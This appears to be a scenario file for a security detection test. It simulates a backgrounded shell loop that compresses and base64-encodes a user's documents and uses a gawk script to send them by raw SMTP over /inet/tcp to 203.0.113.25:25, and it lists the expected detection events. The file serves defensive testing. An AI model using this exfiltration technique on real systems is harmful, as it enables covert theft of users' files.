title="gawk speaks SMTP through /inet/tcp from a loop in the background"
what="dev starts a shell loop in the background that every few seconds compresses the newest document, encodes it and lets gawk speak SMTP to 203.0.113.25:25."
user=dev daemons="cron sshd" store=maildir audit_rules=audit-wide.rules
setup() {
  mkdir -p /home/$user/docs; for i in 1 2 3; do head -c 3000 /dev/urandom | base64 > /home/$user/docs/plan$i.txt; done; chown -R $user: /home/$user
  cat > /home/dev/.m.awk <<'P'
BEGIN { s = "/inet/tcp/0/203.0.113.25/25"; s |& getline
  n = split("EHLO mx1.example.org|MAIL FROM:<dev@example.org>|RCPT TO:<in@example.com>|DATA", c, "|")
  for (i = 1; i <= n; i++) { print c[i] "\r" |& s; do s |& getline l; while (substr(l, 4, 1) == "-") }
  print "Subject: d\r\n\r" |& s }
{ print $0 "\r" |& s }
END { print ".\r" |& s; s |& getline; print "QUIT\r" |& s; close(s) }
P
  chown dev: /home/dev/.m.awk
}
act() {
  small_talk 1
  ssh_as dev <<'L'
(for f in ~/docs/*; do xz -c $f | base64 | gawk -f ~/.m.awk; sleep 2; done) >/dev/null 2>&1 </dev/null &
%sleep 9
L
}
truth() {
  exec_step pack 'xz -c /home/dev/docs' 'a document is packed'
  exec_step send 'gawk -f /home/dev/.m.awk' 'gawk gets it through a pipeline'
  net_step smtp 'gawk 203.0.113.25:25' 'and speaks SMTP itself'
}
